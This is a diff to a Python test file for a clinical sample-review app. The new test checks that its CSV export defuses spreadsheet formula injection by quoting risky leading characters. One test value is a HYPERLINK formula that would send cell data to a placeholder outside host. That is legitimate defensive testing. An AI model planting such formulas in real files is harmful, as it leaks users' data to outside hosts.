@@ -3,7 +3,9 @@ files, the real CLI). The browser side of the review page is in test_review_brow
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import socket
 import sqlite3
@@ -276,6 +278,15 @@ def test_export_samples_csv_and_json_with_reviews(small_db, tmp_path):
     connection = connect(small_db)
     data.add_review(connection, "S-REP", "dr-a", "confirm", "agree", labels=list(LABELS))
     connection.close()
+    # Free text a spreadsheet would run as a formula when the clinic opens the export.
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"details")'
+    store = ResultStore(small_db)
+    store.ensure_sample("S-TEXT", notes="+1 slide, stain: Wright", site="-north-")
+    store.add(stored_row(sample_id="S-TEXT"))
+    store.close()
+    connection = connect(small_db)
+    data.add_review(connection, "S-TEXT", "@dr-b", "confirm", formula, labels=list(LABELS))
+    connection.close()
     out_csv, out_json = tmp_path / "samples.csv", tmp_path / "samples.json"
     run_cli(
         "edge-app",
@@ -294,9 +305,15 @@ def test_export_samples_csv_and_json_with_reviews(small_db, tmp_path):
         and exported["S-REP"]["reviews"][0]["reason"] == "agree"
     )
     assert exported["S-EMPTY"]["n_frames"] == 0 and exported["S-EMPTY"]["status"] == "referred"
+    assert exported["S-TEXT"]["reviews"][0]["reason"] == formula  # JSON keeps the text as typed
     lines = out_csv.read_text().splitlines()
-    assert lines[0].startswith("sample_id,created_utc,operator,site") and len(lines) == 3
+    assert lines[0].startswith("sample_id,created_utc,operator,site") and len(lines) == 4
     assert "dr-a" in next(line for line in lines if line.startswith("S-REP"))
+    rows = {row["sample_id"]: row for row in csv.DictReader(io.StringIO(out_csv.read_text()))}
+    text = rows["S-TEXT"]
+    assert text["last_review_reason"] == "'" + formula and text["last_reviewer"] == "'@dr-b"
+    assert text["notes"] == "'+1 slide, stain: Wright" and text["site"] == "'-north-"
+    assert rows["S-REP"]["last_review_reason"] == "agree" and rows["S-REP"]["confidence"]
     assert stat.S_IMODE(out_csv.stat().st_mode) == 0o600
     nothing = run_cli("edge-app", "export", "--db", small_db, check=False, timeout=60)
     assert nothing.returncode == 2 and "nothing to export" in nothing.stderr
